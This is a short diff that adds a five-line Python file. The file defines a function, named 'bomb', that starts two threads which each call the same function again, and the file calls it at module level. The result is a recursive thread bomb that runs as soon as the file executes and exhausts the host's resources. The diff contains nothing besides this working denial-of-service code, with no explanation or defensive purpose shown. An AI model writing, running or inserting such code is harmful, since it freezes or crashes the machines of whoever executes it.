@@ -1,0 +1,5 @@
+import threading
+def bomb():
+    threading.Thread(target=bomb).start()
+    threading.Thread(target=bomb).start()
+bomb()
